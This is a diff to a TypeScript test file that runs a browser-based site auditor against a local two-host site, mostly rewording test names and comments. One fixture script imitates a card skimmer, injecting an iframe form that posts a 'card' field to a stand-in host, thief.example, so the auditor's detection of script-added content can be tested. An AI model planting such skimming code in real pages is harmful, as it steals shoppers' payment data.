@@ -1,4 +1,4 @@
-// The programs of audits and page views in real boxes, against a small site of two hosts.
+// The programs of audits and page views in real sandboxes, against a small site of two hosts.
 import { existsSync } from 'node:fs'
 import { type IncomingMessage, type ServerResponse, createServer } from 'node:http'
 import { beforeAll, describe, expect, it } from 'vitest'
@@ -25,7 +25,7 @@ const shop = (port: number): string => `<!doctype html><html lang=en><title>Shop
 <script src=/shop.js></script><script src=/gone.js></script><script src=/ads/banner.js></script>
 <img src=/moved.png><img src="http://localhost:${port}/logo.png"><script>console.error('no cart')</script>`
 
-/** Forms appear as thieves make them do: in a frame of the page's own, from a script that is gone when it is done. */
+/** Attackers' forms: in an inlined frame, from a script that removes itself. */
 const shopScript = (port: number): string => `
 const frame = document.createElement('iframe'); document.body.append(frame);
 frame.contentDocument.body.innerHTML = '<form action=https://thief.example/take><input name=card></form>';
@@ -84,7 +84,7 @@ describe.skipIf(noBoxes)(`in a real browser${noBoxes ? ` (${noBoxes})` : ''}`, (
       expect(metrics).not.toHaveProperty(['browser.inp_ms'])
     })
 
-    it('tells what is broken in it', () => {
+    it('finds what is broken', () => {
       expect(outcome.evidence).toMatchObject({
         url: `http://127.0.0.1:${site.port}/`,
         console_errors: expect.arrayContaining(['no cart']),
@@ -96,15 +96,15 @@ describe.skipIf(noBoxes)(`in a real browser${noBoxes ? ` (${noBoxes})` : ''}`, (
       expect(outcome.metrics['browser.failed_requests']).toBe((outcome.evidence!.failed_requests as object[]).length)
     })
 
-    it('does not ask for what is blocked', () => {
+    it('does not request blocked URLs', () => {
       expect(site.seen.map(({ path }) => path)).not.toContain('/ads/banner.js')
     })
 
-    it('speaks the language it was given', () => {
+    it('sends the configured language', () => {
       expect(site.seen[0]!.headers['accept-language']).toMatch(/^de-AT,de/)
     })
 
-    it('sends headers and cookies to their own origin only, and not along with a redirect', () => {
+    it('sends headers and cookies to their own origin only, and not after a redirect', () => {
       const own = site.seen.filter(({ host, path }) => host === '127.0.0.1' && path !== '/robots.txt')
       const others = site.seen.filter(({ host }) => host === 'localhost')
       expect(own.map(({ headers }) => headers['x-api-key'])).toEqual(own.map(() => 'key-123'))
@@ -113,7 +113,7 @@ describe.skipIf(noBoxes)(`in a real browser${noBoxes ? ` (${noBoxes})` : ''}`, (
       for (const { headers } of others) expect([headers['x-api-key'], headers.cookie]).toEqual([undefined, undefined])
     })
 
-    it('leaves the familiar report and a picture, without secrets', () => {
+    it('produces the Lighthouse report and a screenshot, without secrets', () => {
       const [report, picture] = outcome.artifacts!
       expect(report).toMatchObject({ kind: 'report', contentType: 'text/html' })
       expect(report!.bytes.toString()).toContain('__LIGHTHOUSE_JSON__')
@@ -123,7 +123,7 @@ describe.skipIf(noBoxes)(`in a real browser${noBoxes ? ` (${noBoxes})` : ''}`, (
     })
   })
 
-  it('an audit of an error page says so at once, with a picture of it, in a browser with windows too', async () => {
+  it('an audit of an error page says so at once, with a screenshot of it, in a browser with windows too', async () => {
     const site = await startSite()
     const chromium = ['/usr/lib/chromium/chromium'].find(existsSync)
     const around = { browsers: realBrowsers({ chromium }), deadlineMs: 180_000 }
@@ -132,13 +132,13 @@ describe.skipIf(noBoxes)(`in a real browser${noBoxes ? ` (${noBoxes})` : ''}`, (
     expect(outcome.artifacts).toMatchObject([{ kind: 'screenshot', contentType: 'image/jpeg' }])
   })
 
-  it('an audit of a server that is away says why', async () => {
+  it('an audit of an unreachable server says why', async () => {
     const around = { browsers: realBrowsers(), deadlineMs: 180_000 }
     const outcome = await runCheck(browser, 'http://nowhere.invalid/', around)
     expect(outcome).toMatchObject({ success: false, cause: 'dns', metrics: { 'browser.audit_failed': 1 } })
   })
 
-  it('a page view shows what scripts have added, and what they asked for', async () => {
+  it('a page view contains what scripts added and requested', async () => {
     const site = await startSite()
     const own = `http://127.0.0.1:${site.port}`
     const context = { net: openNet(), browsers: realBrowsers(), signal: new AbortController().signal }
